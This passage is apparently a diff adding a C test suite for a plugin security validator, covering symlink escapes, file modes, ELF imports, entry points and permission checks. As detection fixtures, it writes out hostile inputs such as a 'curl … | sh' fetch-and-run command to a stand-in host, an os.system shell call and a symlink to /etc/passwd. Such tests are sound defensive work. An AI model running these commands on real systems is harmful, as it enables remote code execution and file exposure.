@@ -1,0 +1,1230 @@
+// SPDX-License-Identifier: MIT
+/*
+ * Plugin validation: every rule with a triggering and a non-triggering
+ * example (the Python and shell ones as fixture files under
+ * tests/data/validate/rules/<rule>/{bad,good}-*, the directory ones built
+ * here), the example plugins clean with their permissions and flagged
+ * without, the digest, the cache, the report model and the exposure score.
+ * The last test checks that every rule of the catalog was seen both ways.
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <ftw.h>
+#include <gelf.h>
+#include <libelf.h>
+#include <libgen.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#include "manifest.h"
+#include "pyrules_int.h"
+#include "validate.h"
+
+static char data_dir[4096], examples_dir[4096];
+static bool seen_bad[64], seen_good[64];
+
+static int rule_index(const char *id)
+{
+	for (int i = 0; validate_rules[i].id; i++)
+		if (!strcmp(validate_rules[i].id, id))
+			return i;
+	fail_msg("rule %s is not in the catalog", id);
+	return -1;
+}
+
+static const struct validate_finding *find(const struct validate_report *r, const char *rule)
+{
+	for (size_t i = 0; i < r->n; i++)
+		if (!strcmp(r->findings[i].rule->id, rule))
+			return &r->findings[i];
+	return NULL;
+}
+
+static void dump(const struct validate_report *r)
+{
+	validate_report_text(r, stderr);
+}
+
+/* The rule fires (at sev, unless sev < 0); recorded for the catalog check. */
+static const struct validate_finding *expect(const struct validate_report *r, const char *rule, int sev)
+{
+	const struct validate_finding *f = NULL;
+
+	for (size_t i = 0; i < r->n; i++)
+		if (!strcmp(r->findings[i].rule->id, rule) &&
+		    (sev < 0 || r->findings[i].severity == (enum severity)sev))
+			f = &r->findings[i];
+	if (!f) {
+		dump(r);
+		fail_msg("expected %s%s%s", rule, sev >= 0 ? " at " : "",
+			 sev >= 0 ? severity_name((enum severity)sev) : "");
+	}
+	seen_bad[rule_index(rule)] = true;
+	return f;
+}
+
+static void absent(const struct validate_report *r, const char *rule)
+{
+	if (find(r, rule)) {
+		dump(r);
+		fail_msg("unexpected %s", rule);
+	}
+	seen_good[rule_index(rule)] = true;
+}
+
+/* ---- tests/data ---- */
+
+static int setup(void **state)
+{
+	char exe[4096];
+	ssize_t n;
+
+	if (getenv("RAGGED_TEST_DATA"))
+		snprintf(data_dir, sizeof(data_dir), "%s", getenv("RAGGED_TEST_DATA"));
+	else if (access("tests/data", F_OK) == 0)
+		snprintf(data_dir, sizeof(data_dir), "tests/data");
+	else if ((n = readlink("/proc/self/exe", exe, sizeof(exe) - 1)) > 0) {
+		exe[n] = '\0';
+		snprintf(data_dir, sizeof(data_dir), "%s/../../tests/data", dirname(exe));
+	}
+	snprintf(examples_dir, sizeof(examples_dir), "%s/../../docs/examples/plugins", data_dir);
+	return access(data_dir, F_OK) == 0 && access(examples_dir, F_OK) == 0 ? 0 : -1;
+}
+
+static char *slurp(const char *path, size_t *len)
+{
+	FILE *f = fopen(path, "rb");
+	char *buf = malloc(1 << 16);
+
+	assert_non_null(f);
+	assert_non_null(buf);
+	*len = fread(buf, 1, (1 << 16) - 1, f);
+	buf[*len] = '\0';
+	fclose(f);
+	return buf;
+}
+
+/* "# expect: high" in a fixture: the severity its finding must have; -1 if none. */
+static int expected_sev(const char *src)
+{
+	const char *p = strstr(src, "# expect: ");
+	char word[16];
+	enum severity s;
+
+	if (!p || sscanf(p + 10, "%15[a-z]", word) != 1)
+		return -1;
+	assert_int_equal(severity_parse(word, &s), 0);
+	return (int)s;
+}
+
+/* Every fixture: bad-* triggers its directory's rule ("# expect: SEV" pins the severity), good-* does not. */
+static void test_rule_fixtures(void **state)
+{
+	char dir[4200], path[4600];
+	struct dirent **rules, **files;
+	int nr, nfix = 0;
+
+	snprintf(dir, sizeof(dir), "%s/validate/rules", data_dir);
+	nr = scandir(dir, &rules, NULL, alphasort);
+	assert_true(nr > 0);
+	for (int i = 0; i < nr; i++) {
+		int nf;
+
+		if (rules[i]->d_name[0] == '.') {
+			free(rules[i]);
+			continue;
+		}
+		snprintf(path, sizeof(path), "%s/%s", dir, rules[i]->d_name);
+		nf = scandir(path, &files, NULL, alphasort);
+		assert_true(nf > 0);
+		for (int k = 0; k < nf; k++) {
+			const char *fn = files[k]->d_name;
+			struct validate_report r;
+			size_t len;
+			char *src, name[600];
+			bool bad = !strncmp(fn, "bad-", 4);
+
+			if (fn[0] == '.') {
+				free(files[k]);
+				continue;
+			}
+			snprintf(path, sizeof(path), "%s/%s/%s", dir, rules[i]->d_name, fn);
+			snprintf(name, sizeof(name), "%s/%s", rules[i]->d_name, fn);
+			src = slurp(path, &len);
+			if (strstr(fn, ".sh"))
+				validate_shell_buffer(name, src, len, &r);
+			else
+				validate_python_buffer(name, src, len, &r);
+			if (bad)
+				expect(&r, rules[i]->d_name, expected_sev(src));
+			else
+				absent(&r, rules[i]->d_name);
+			/* Findings point at the file and a real line. */
+			for (size_t f = 0; f < r.n; f++) {
+				assert_string_equal(r.findings[f].file, name);
+				assert_true(r.findings[f].line >= 1);
+			}
+			validate_report_free(&r);
+			free(src);
+			free(files[k]);
+			nfix++;
+		}
+		free(files);
+		free(rules[i]);
+	}
+	free(rules);
+	assert_true(nfix >= 100);
+}
+
+/* ---- plugin directories built for a test ---- */
+
+static char tmp[64];
+
+static int rm_cb(const char *p, const struct stat *st, int flag, struct FTW *ftw)
+{
+	return remove(p);
+}
+
+static int mk_tmp(void **state)
+{
+	snprintf(tmp, sizeof(tmp), "/tmp/ragged-validate-XXXXXX");
+	assert_non_null(mkdtemp(tmp));
+	chmod(tmp, 0755);
+	return 0;
+}
+
+static int rm_tmp(void **state)
+{
+	nftw(tmp, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
+	return 0;
+}
+
+static void put(const char *rel, const char *text, mode_t mode)
+{
+	char path[512], *slash;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
+	for (slash = strchr(path + strlen(tmp) + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
+		*slash = '\0';
+		mkdir(path, 0755);
+		*slash = '/';
+	}
+	f = fopen(path, "w");
+	assert_non_null(f);
+	fputs(text, f);
+	fclose(f);
+	assert_int_equal(chmod(path, mode), 0);
+}
+
+static void manifest(const char *entry, const char *perms, const char *extra)
+{
+	char buf[2048];
+
+	snprintf(buf, sizeof(buf),
+		 "[plugin]\nname = \"t\"\nversion = \"1.0.0\"\ntype = \"command\"\nentry = [%s]\n\n"
+		 "[permissions]\nrequired = [%s]\n%s", entry, perms, extra ? extra : "");
+	put("plugin.toml", buf, 0644);
+}
+
+static const char *osv_db(void)
+{
+	static char p[4200];
+
+	snprintf(p, sizeof(p), "%s/osv", data_dir);
+	return p;
+}
+
+/* Validate dir (tmp if NULL) with its plugin.toml; r must be freed. */
+static void scan(const char *dir, const struct validate_opts *o, struct validate_report *r)
+{
+	struct manifest m;
+	char path[4300], err[512];
+	bool ok;
+
+	snprintf(path, sizeof(path), "%s/plugin.toml", dir ? dir : tmp);
+	ok = manifest_load(path, &m, err, sizeof(err)) == 0;
+	if (!ok)
+		fail_msg("manifest: %s", err);
+	if (validate_dir(dir ? dir : tmp, &m, o, r, err, sizeof(err)) < 0)
+		fail_msg("validate_dir: %s", err);
+	manifest_free(&m);
+}
+
+static void plain(void)
+{
+	manifest("\"python3\", \"main.py\"", "", NULL);
+	put("main.py", "print('hello')\n", 0644);
+}
+
+static void test_fs_symlinks(void **state)
+{
+	struct validate_report r;
+	char p[512];
+
+	plain();
+	mkdir(strcat(strcpy(p, tmp), "/sub"), 0755);
+	assert_int_equal(symlinkat("main.py", AT_FDCWD, strcat(strcpy(p, tmp), "/ok-link")), 0);
+	assert_int_equal(symlinkat("../main.py", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/up-ok")), 0);
+	assert_int_equal(symlinkat("missing.txt", AT_FDCWD, strcat(strcpy(p, tmp), "/dangling")), 0);
+	assert_int_equal(symlinkat("..", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/parent")), 0);
+	scan(NULL, NULL, &r);
+	absent(&r, "fs-symlink-escape");
+	validate_report_free(&r);
+
+	assert_int_equal(symlinkat("/etc/passwd", AT_FDCWD, strcat(strcpy(p, tmp), "/abs")), 0);
+	assert_int_equal(symlinkat("../../outside", AT_FDCWD, strcat(strcpy(p, tmp), "/sub/rel")), 0);
+	/* Lexically inside, but sub/parent is itself "..": the kernel walk leaves the dir. */
+	assert_int_equal(symlinkat("sub/parent/..", AT_FDCWD, strcat(strcpy(p, tmp), "/chain")), 0);
+	scan(NULL, NULL, &r);
+	expect(&r, "fs-symlink-escape", SEV_CRITICAL);
+	{
+		int n = 0;
+
+		for (size_t i = 0; i < r.n; i++)
+			if (!strcmp(r.findings[i].rule->id, "fs-symlink-escape")) {
+				n++;
+				assert_true(!strcmp(r.findings[i].file, "abs") ||
+					    !strcmp(r.findings[i].file, "sub/rel") ||
+					    !strcmp(r.findings[i].file, "chain"));
+			}
+		assert_int_equal(n, 3);
+	}
+	validate_report_free(&r);
+}
+
+static void test_fs_modes(void **state)
+{
+	struct validate_report r;
+	char p[512];
+
+	plain();
+	put("data/ok.txt", "x", 0644);
+	put("run.sh", "#!/bin/sh\necho hi\n", 0755);
+	scan(NULL, NULL, &r);
+	absent(&r, "fs-world-writable");
+	absent(&r, "fs-setuid");
+	absent(&r, "fs-special-file");
+	absent(&r, "fs-hardlink");
+	absent(&r, "fs-unreadable");
+	assert_true(r.complete);
+	validate_report_free(&r);
+
+	put("shared.txt", "x", 0666);
+	put("suid", "x", 04755);
+	put("sgid", "x", 02755);
+	chmod(strcat(strcpy(p, tmp), "/data"), 0777);
+	assert_int_equal(mkfifo(strcat(strcpy(p, tmp), "/fifo"), 0644), 0);
+	{
+		char q[512];
+
+		strcat(strcpy(q, tmp), "/hard");
+		assert_int_equal(link(strcat(strcpy(p, tmp), "/data/ok.txt"), q), 0);
+	}
+	scan(NULL, NULL, &r);
+	assert_string_equal(expect(&r, "fs-world-writable", SEV_HIGH)->file, "shared.txt");
+	assert_non_null(strstr(expect(&r, "fs-setuid", SEV_CRITICAL)->message, "set"));
+	assert_string_equal(expect(&r, "fs-special-file", SEV_HIGH)->file, "fifo");
+	expect(&r, "fs-hardlink", SEV_MEDIUM);
+	{
+		int ww = 0, su = 0;
+
+		for (size_t i = 0; i < r.n; i++) {
+			ww += !strcmp(r.findings[i].rule->id, "fs-world-writable");
+			su += !strcmp(r.findings[i].rule->id, "fs-setuid");
+		}
+		assert_int_equal(ww, 2);	/* the file and the directory */
+		assert_int_equal(su, 2);
+	}
+	validate_report_free(&r);
+}
+
+/* Unreadable needs a non-root reader: as root, check it as nobody in a child. */
+static void test_fs_unreadable(void **state)
+{
+	struct validate_report r;
+	pid_t pid;
+	int st;
+
+	plain();
+	put("secret.py", "x = 1\n", 0000);
+	if (geteuid() != 0) {
+		scan(NULL, NULL, &r);
+		expect(&r, "fs-unreadable", SEV_HIGH);
+		validate_report_free(&r);
+		return;
+	}
+	pid = fork();
+	assert_true(pid >= 0);
+	if (pid == 0) {
+		struct validate_report cr;
+		char err[256];
+
+		if (setgid(65534) < 0 || setuid(65534) < 0)
+			_exit(3);
+		if (validate_dir(tmp, NULL, NULL, &cr, err, sizeof(err)) < 0)
+			_exit(4);
+		st = find(&cr, "fs-unreadable") ? 0 : 5;
+		validate_report_free(&cr);
+		_exit(st);
+	}
+	assert_int_equal(waitpid(pid, &st, 0), pid);
+	assert_true(WIFEXITED(st));
+	assert_int_equal(WEXITSTATUS(st), 0);
+	seen_bad[rule_index("fs-unreadable")] = true;
+}
+
+static void test_fs_limits(void **state)
+{
+	struct validate_opts o = { .max_files = 4 };
+	struct validate_report r;
+
+	plain();
+	put("a.py", "x = 1\n", 0644);
+	put("b.py", "x = 1\n", 0644);
+	put("c/d/e/f.py", "x = 1\n", 0644);
+	scan(NULL, NULL, &r);
+	absent(&r, "fs-limit");
+	assert_true(r.complete);
+	assert_int_equal(r.files, 5);
+	validate_report_free(&r);
+
+	scan(NULL, &o, &r);
+	expect(&r, "fs-limit", SEV_HIGH);
+	assert_false(r.complete);
+	validate_report_free(&r);
+
+	o = (struct validate_opts){ .max_depth = 2 };
+	scan(NULL, &o, &r);
+	assert_non_null(strstr(expect(&r, "fs-limit", -1)->message, "deeper"));
+	validate_report_free(&r);
+
+	/* Over the per-file cap: a code file is not analysed (and says so), data is only hashed. */
+	o = (struct validate_opts){ .max_file_bytes = 64 };
+	put("big.py", "import os\nos.system('id')\n# padding padding padding padding padding padding\n",
+	    0644);
+	put("big.bin", "0123456789012345678901234567890123456789012345678901234567890123456789", 0644);
+	scan(NULL, &o, &r);
+	assert_string_equal(expect(&r, "fs-limit", -1)->file, "big.py");
+	assert_null(find(&r, "py-shell"));
+	for (size_t i = 0; i < r.n; i++)
+		assert_string_not_equal(r.findings[i].file ? r.findings[i].file : "", "big.bin");
+	validate_report_free(&r);
+
+	o = (struct validate_opts){ .max_total_bytes = 100 };
+	scan(NULL, &o, &r);
+	assert_non_null(strstr(expect(&r, "fs-limit", -1)->message, "total"));
+	assert_false(r.complete);
+	validate_report_free(&r);
+}
+
+static void test_bytecode(void **state)
+{
+	struct validate_report r;
+
+	plain();
+	scan(NULL, NULL, &r);
+	absent(&r, "py-bytecode");
+	validate_report_free(&r);
+	put("__pycache__/main.cpython-311.pyc", "\xa7\x0d\x0d\x0a", 0644);
+	scan(NULL, NULL, &r);
+	assert_string_equal(expect(&r, "py-bytecode", SEV_HIGH)->file, "__pycache__/main.cpython-311.pyc");
+	validate_report_free(&r);
+}
+
+static void test_entry(void **state)
+{
+	struct validate_report r;
+
+	plain();
+	put("run.sh", "#!/bin/sh\necho ok\n", 0755);
+	put("pkg/__main__.py", "print(1)\n", 0644);
+	put("emptydir/x.txt", "x", 0644);
+	static const char *const good[] = {
+		"\"python3\", \"main.py\"", "\"/usr/bin/python3\", \"-u\", \"main.py\"",
+		"\"./run.sh\"", "\"sh\", \"run.sh\"", "\"python3\", \"-m\", \"pkg\"",
+		"\"python3\", \"-W\", \"ignore\", \"main.py\"", "\"python3\", \"pkg\"",
+	};
+	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
+		manifest(good[i], "", NULL);
+		scan(NULL, NULL, &r);
+		absent(&r, "entry-missing");
+		absent(&r, "entry-outside");
+		absent(&r, "entry-not-executable");
+		absent(&r, "entry-inline-code");
+		validate_report_free(&r);
+	}
+	static const struct { const char *entry, *rule; int sev; } bad[] = {
+		{ "\"python3\", \"nope.py\"", "entry-missing", SEV_CRITICAL },
+		{ "\"./nope\"", "entry-missing", SEV_CRITICAL },
+		{ "\"python3\", \"emptydir\"", "entry-missing", SEV_CRITICAL },
+		{ "\"no-such-program-ragged\", \"main.py\"", "entry-missing", SEV_CRITICAL },
+		{ "\"python3\", \"../main.py\"", "entry-outside", SEV_CRITICAL },
+		{ "\"python3\", \"/etc/x.py\"", "entry-outside", SEV_CRITICAL },
+		{ "\"/opt/tool/run\"", "entry-outside", SEV_CRITICAL },
+		{ "\"./sub/../../x\"", "entry-outside", SEV_CRITICAL },
+		{ "\"python3\", \"-m\", \"http.server\"", "entry-outside", SEV_HIGH },
+		{ "\"python3\", \"-c\", \"print(1)\"", "entry-inline-code", SEV_HIGH },
+		{ "\"bash\", \"-c\", \"echo hi\"", "entry-inline-code", SEV_HIGH },
+		{ "\"python3\"", "entry-inline-code", SEV_HIGH },
+	};
+	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		manifest(bad[i].entry, "", NULL);
+		scan(NULL, NULL, &r);
+		assert_string_equal(expect(&r, bad[i].rule, bad[i].sev)->file, "plugin.toml");
+		validate_report_free(&r);
+	}
+	/* A symlinked script that leaves the directory. */
+	{
+		char p[512];
+
+		assert_int_equal(symlinkat("/etc/hostname", AT_FDCWD, strcat(strcpy(p, tmp), "/out.py")), 0);
+		manifest("\"python3\", \"out.py\"", "", NULL);
+		scan(NULL, NULL, &r);
+		expect(&r, "entry-outside", SEV_CRITICAL);
+		expect(&r, "fs-symlink-escape", SEV_CRITICAL);
+		validate_report_free(&r);
+		unlink(p);
+	}
+	/* Not executable. */
+	put("tool", "#!/bin/sh\n", 0644);
+	manifest("\"./tool\"", "", NULL);
+	scan(NULL, NULL, &r);
+	expect(&r, "entry-not-executable", SEV_HIGH);
+	validate_report_free(&r);
+	/* Inline code is analysed as code. */
+	manifest("\"python3\", \"-c\", \"import os; os.system('id')\"", "", NULL);
+	scan(NULL, NULL, &r);
+	expect(&r, "py-shell", SEV_HIGH);
+	validate_report_free(&r);
+	manifest("\"sh\", \"-c\", \"curl -s https://x.example/s | sh\"", "", NULL);
+	scan(NULL, NULL, &r);
+	expect(&r, "sh-pipe-to-shell", SEV_CRITICAL);
+	validate_report_free(&r);
+}
+
+/* An ELF64 file: dynamic (PT_DYNAMIC and a .dynsym importing syms) or static. */
+static void make_elf(const char *rel, const char *const *syms, bool dynamic)
+{
+	static char shstr[] = "\0.dynstr\0.dynsym\0.shstrtab";
+	char path[512], strtab[512] = "";
+	Elf64_Sym sym[16];
+	size_t slen = 1, n = 1;
+	Elf64_Ehdr *eh;
+	Elf64_Phdr *ph = NULL;
+	Elf64_Shdr *sh;
+	Elf_Scn *str = NULL, *dsym, *shs;
+	Elf_Data *d;
+	Elf *e;
+	int fd;
+
+	memset(sym, 0, sizeof(sym));
+	for (size_t i = 0; syms && syms[i] && n < 16; i++, n++) {
+		sym[n].st_name = (Elf64_Word)slen;
+		sym[n].st_info = ELF64_ST_INFO(STB_GLOBAL, STT_FUNC);
+		sym[n].st_shndx = SHN_UNDEF;
+		memcpy(strtab + slen, syms[i], strlen(syms[i]) + 1);
+		slen += strlen(syms[i]) + 1;
+	}
+	snprintf(path, sizeof(path), "%s/%s", tmp, rel);
+	assert_true(elf_version(EV_CURRENT) != EV_NONE);
+	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
+	assert_true(fd >= 0);
+	e = elf_begin(fd, ELF_C_WRITE, NULL);
+	assert_non_null(e);
+	eh = elf64_newehdr(e);
+	eh->e_ident[EI_DATA] = ELFDATA2LSB;
+	eh->e_machine = EM_X86_64;
+	eh->e_type = ET_DYN;
+	eh->e_version = EV_CURRENT;
+	if (dynamic) {
+		ph = elf64_newphdr(e, 1);
+		str = elf_newscn(e);
+		d = elf_newdata(str);
+		d->d_buf = strtab, d->d_size = slen, d->d_type = ELF_T_BYTE, d->d_align = 1;
+		sh = elf64_getshdr(str);
+		sh->sh_name = 1, sh->sh_type = SHT_STRTAB, sh->sh_flags = SHF_ALLOC;
+		dsym = elf_newscn(e);
+		d = elf_newdata(dsym);
+		d->d_buf = sym, d->d_size = n * sizeof(sym[0]), d->d_type = ELF_T_SYM, d->d_align = 8;
+		sh = elf64_getshdr(dsym);
+		sh->sh_name = 9, sh->sh_type = SHT_DYNSYM, sh->sh_link = (Elf64_Word)elf_ndxscn(str);
+		sh->sh_entsize = sizeof(sym[0]), sh->sh_info = 1, sh->sh_flags = SHF_ALLOC;
+	}
+	shs = elf_newscn(e);
+	d = elf_newdata(shs);
+	d->d_buf = shstr, d->d_size = sizeof(shstr), d->d_type = ELF_T_BYTE, d->d_align = 1;
+	sh = elf64_getshdr(shs);
+	sh->sh_name = 17, sh->sh_type = SHT_STRTAB;
+	eh->e_shstrndx = (Elf64_Half)elf_ndxscn(shs);
+	assert_true(elf_update(e, ELF_C_NULL) >= 0);
+	if (ph) {
+		ph->p_type = PT_DYNAMIC;
+		elf_flagphdr(e, ELF_C_SET, ELF_F_DIRTY);
+	}
+	assert_true(elf_update(e, ELF_C_WRITE) >= 0);
+	elf_end(e);
+	close(fd);
+}
+
+static void test_elf(void **state)
+{
+	static const char *const clean[] = { "puts", "malloc", "read", NULL };
+	static const char *const escape[] = { "puts", "ptrace", "init_module", NULL };
+	static const char *const ns[] = { "unshare", "setns", "syscall", NULL };
+	struct validate_report r;
+
+	plain();
+	put("lib.so", "not an ELF file at all", 0644);
+	scan(NULL, NULL, &r);
+	absent(&r, "elf-binary");
+	validate_report_free(&r);
+	make_elf("tool", clean, true);
+	scan(NULL, NULL, &r);
+	absent(&r, "elf-dangerous-import");
+	absent(&r, "elf-static");
+	absent(&r, "elf-malformed");
+	assert_string_equal(expect(&r, "elf-binary", SEV_INFO)->file, "tool");
+	assert_true(r.uses & VUSE_NATIVE);
+	validate_report_free(&r);
+
+	make_elf("escape", escape, true);
+	make_elf("ns.so", ns, true);
+	make_elf("static", NULL, false);
+	put("broken", "\177ELF\003\003\001garbage", 0755);
+	scan(NULL, NULL, &r);
+	{
+		int crit = 0, high = 0, med = 0;
+
+		for (size_t i = 0; i < r.n; i++) {
+			const struct validate_finding *f = &r.findings[i];
+
+			if (strcmp(f->rule->id, "elf-dangerous-import"))
+				continue;
+			crit += f->severity == SEV_CRITICAL;
+			high += f->severity == SEV_HIGH;
+			med += f->severity == SEV_MEDIUM;
+			assert_true(!strcmp(f->file, "escape") || !strcmp(f->file, "ns.so"));
+		}
+		assert_int_equal(crit, 2);	/* ptrace, init_module */
+		assert_int_equal(high, 2);	/* unshare, setns */
+		assert_int_equal(med, 1);	/* syscall */
+	}
+	expect(&r, "elf-dangerous-import", SEV_CRITICAL);
+	assert_string_equal(expect(&r, "elf-static", SEV_MEDIUM)->file, "static");
+	assert_string_equal(expect(&r, "elf-malformed", SEV_HIGH)->file, "broken");
+	validate_report_free(&r);
+}
+
+/* ---- the permission cross-check ---- */
+
+static void code(const char *src)
+{
+	put("main.py", src, 0644);
+}
+
+static void test_perm_network(void **state)
+{
+	struct validate_report r;
+
+	/* A remote URL with only local-service permissions. */
+	manifest("\"python3\", \"main.py\"", "\"system:embedding\"", NULL);
+	code("import urllib.request\nurllib.request.urlopen('https://api.example.com/v1/embed')\n"
+	     "urllib.request.urlopen('http://localhost:11434/api/embeddings')\n");
+	scan(NULL, NULL, &r);
+	assert_int_equal(expect(&r, "perm-undeclared-network", SEV_HIGH)->line, 2);
+	validate_report_free(&r);
+	/* Raw sockets count as network use; loopback services need their permission. */
+	manifest("\"python3\", \"main.py\"", "\"system:embedding\"", NULL);
+	code("import socket\nsocket.create_connection(('127.0.0.1', 8001))\nURL = 'http://127.0.0.1:8001/api'\n"
+	     "OTHER = 'http://127.0.0.1:5432/'\n");
+	scan(NULL, NULL, &r);
+	assert_non_null(strstr(expect(&r, "perm-undeclared-network", SEV_HIGH)->message, "vectorstore"));
+	validate_report_free(&r);
+	manifest("\"python3\", \"main.py\"", "\"network:none\"", NULL);
+	code("URL = 'http://127.0.0.1:5432/'\nimport requests\n");
+	scan(NULL, NULL, &r);
+	expect(&r, "perm-undeclared-network", SEV_HIGH);
+	validate_report_free(&r);
+	/* A URL in a plugin that never connects is text, not a use. */
+	manifest("\"python3\", \"main.py\"", "", NULL);
+	code("HELP = 'see https://docs.example.com/plugin'\nprint(HELP)\n");
+	scan(NULL, NULL, &r);
+	absent(&r, "perm-undeclared-network");
+	validate_report_free(&r);
+	/* Shell scripts and binaries count too. */
+	manifest("\"sh\", \"run.sh\"", "", NULL);
+	put("run.sh", "#!/bin/sh\ncurl -s https://x.example/data -o \"$TMPDIR/d\"\n", 0755);
+	scan(NULL, NULL, &r);
+	assert_string_equal(expect(&r, "perm-undeclared-network", -1)->file, "run.sh");
+	validate_report_free(&r);
+}
+
+static void test_perm_endpoints(void **state)
+{
+	struct validate_report r;
+
+	manifest("\"python3\", \"main.py\"", "\"network:api\"",
+		 "\n[network]\nendpoints = [\"api.example.com:443\", \"192.0.2.0/24:8443\"]\n");
+	code("import requests\nrequests.get('https://API.example.com/v1/x')\n"
+	     "requests.get('http://192.0.2.7:8443/y')\nrequests.get(f'https://api.example.com:{port}/z')\n");
+	scan(NULL, NULL, &r);
+	absent(&r, "perm-endpoint-undeclared");
+	absent(&r, "perm-undeclared-network");
+	absent(&r, "perm-unused");
+	validate_report_free(&r);
+	code("import requests\nrequests.get('https://collect.example.net/upload')\n"
+	     "requests.get('http://192.0.3.7:8443/y')\nrequests.get('https://api.example.com:8443/')\n");
+	scan(NULL, NULL, &r);
+	{
+		int n = 0;
+
+		for (size_t i = 0; i < r.n; i++)
+			n += !strcmp(r.findings[i].rule->id, "perm-endpoint-undeclared");
+		assert_int_equal(n, 3);
+	}
+	expect(&r, "perm-endpoint-undeclared", SEV_MEDIUM);
+	validate_report_free(&r);
+	/* network:download reaches any host: no endpoint list to check. */
+	manifest("\"python3\", \"main.py\"", "\"network:download\"", NULL);
+	scan(NULL, NULL, &r);
+	absent(&r, "perm-endpoint-undeclared");
+	validate_report_free(&r);
+}
+
+static void test_perm_write(void **state)
+{
+	struct validate_report r;
+	static const char *const writes[] = {
+		"open('/data/out.txt', 'w').write('x')\n",
+		"with open(path, mode='a') as f:\n    pass\n",
+		"import os\nos.remove(path)\n",
+		"import shutil\nshutil.copy(src, '/home/u/Documents/x')\n",
+		"from pathlib import Path\nPath(out).write_text('x')\n",
+		"import os\nfd = os.open(path, os.O_WRONLY | os.O_CREAT)\n",
+		"import urllib.request\nurllib.request.urlretrieve(URL, 'model.bin')\n",
+	};
+	static const char *const scratch[] = {
+		"import tempfile\nwith tempfile.NamedTemporaryFile('w') as f:\n    f.write('x')\n",
+		"import os\nout = os.path.join(os.environ['TMPDIR'], 'x')\nopen(out, 'w').write('x')\n",
+		"import os, tempfile\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'x'), 'wb').close()\n",
+		"import tempfile\nfrom pathlib import Path\nwith tempfile.TemporaryDirectory() as tmp:\n"
+		"    (Path(tmp) / 'x').write_text('x')\n",
+		"open('notes.txt').read()\nopen(p, 'rb')\n",
+	};
+
+	for (size_t i = 0; i < sizeof(writes) / sizeof(writes[0]); i++) {
+		manifest("\"python3\", \"main.py\"", "", NULL);
+		code(writes[i]);
+		scan(NULL, NULL, &r);
+		expect(&r, "perm-undeclared-write", SEV_MEDIUM);
+		validate_report_free(&r);
+		manifest("\"python3\", \"main.py\"", "\"write:documents\"", NULL);
+		scan(NULL, NULL, &r);
+		absent(&r, "perm-undeclared-write");
+		validate_report_free(&r);
+	}
+	for (size_t i = 0; i < sizeof(scratch) / sizeof(scratch[0]); i++) {
+		manifest("\"python3\", \"main.py\"", "", NULL);
+		code(scratch[i]);
+		scan(NULL, NULL, &r);
+		absent(&r, "perm-undeclared-write");
+		validate_report_free(&r);
+	}
+	/* Shell redirections. */
+	manifest("\"sh\", \"run.sh\"", "", NULL);
+	code("x = 1\n");
+	put("run.sh", "#!/bin/sh\necho x > \"$TMPDIR/a\"\necho y 2>/dev/null >&2\n", 0755);
+	scan(NULL, NULL, &r);
+	absent(&r, "perm-undeclared-write");
+	validate_report_free(&r);
+	put("run.sh", "#!/bin/sh\necho x >> /home/u/Documents/log.txt\n", 0755);
+	scan(NULL, NULL, &r);
+	expect(&r, "perm-undeclared-write", -1);
+	validate_report_free(&r);
+}
+
+static void test_perm_unused(void **state)
+{
+	struct validate_report r;
+
+	manifest("\"python3\", \"main.py\"", "\"network:api\", \"write:config\", \"read:documents\"",
+		 "\n[network]\nendpoints = [\"api.example.com:443\"]\n");
+	code("print('hello')\n");
+	scan(NULL, NULL, &r);
+	{
+		int n = 0;
+
+		for (size_t i = 0; i < r.n; i++)
+			n += !strcmp(r.findings[i].rule->id, "perm-unused");
+		assert_int_equal(n, 3);
+	}
+	expect(&r, "perm-unused", SEV_INFO);
+	validate_report_free(&r);
+	/* An embedder that only talks to loopback Ollama does not use network:api. */
+	manifest("\"python3\", \"main.py\"", "\"network:api\", \"system:embedding\"",
+		 "\n[network]\nendpoints = [\"api.example.com:443\"]\n");
+	code("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:11434/api/tags')\n");
+	scan(NULL, NULL, &r);
+	assert_non_null(strstr(expect(&r, "perm-unused", -1)->message, "network:api"));
+	validate_report_free(&r);
+	/* Code that cannot be seen into (a binary) gets no least-privilege hints. */
+	manifest("\"python3\", \"main.py\"", "\"network:api\"", "\n[network]\nendpoints = [\"a.example:443\"]\n");
+	code("print(1)\n");
+	make_elf("helper", NULL, true);
+	scan(NULL, NULL, &r);
+	absent(&r, "perm-unused");
+	validate_report_free(&r);
+}
+
+/* The example plugins: clean with their permissions, flagged without. */
+static void test_examples(void **state)
+{
+	static const char *const names[] = { "embedder", "retriever", "downloader" };
+	char dir[4300], cmd[9000];
+	struct validate_report r;
+
+	for (size_t i = 0; i < 3; i++) {
+		snprintf(dir, sizeof(dir), "%s/%s", examples_dir, names[i]);
+		scan(dir, NULL, &r);
+		if (r.n) {
+			dump(&r);
+			fail_msg("%s is not clean", names[i]);
+		}
+		assert_true(r.uses & VUSE_NETWORK);
+		assert_true(r.lines > 50);
+		seen_good[rule_index("perm-undeclared-network")] = true;
+		validate_report_free(&r);
+
+		/* The same code, nothing declared. */
+		snprintf(cmd, sizeof(cmd), "cp %s/* %s/ && sed -i 's/^required = .*/required = []/' %s/plugin.toml",
+			 dir, tmp, tmp);
+		assert_int_equal(system(cmd), 0);
+		scan(NULL, NULL, &r);
+		expect(&r, "perm-undeclared-network", SEV_HIGH);
+		if (!strcmp(names[i], "downloader"))
+			expect(&r, "perm-undeclared-write", SEV_MEDIUM);
+		validate_report_free(&r);
+	}
+	/* The retriever with the embedding permission only: the vector store is flagged. */
+	snprintf(cmd, sizeof(cmd), "sed -i 's/^required = .*/required = [\"system:embedding\"]/' %s/plugin.toml "
+		 "&& cp %s/retriever/main.py %s/main.py && sed -i 's/^type = .*/type = \"retriever\"/' %s/plugin.toml",
+		 tmp, examples_dir, tmp, tmp);
+	assert_int_equal(system(cmd), 0);
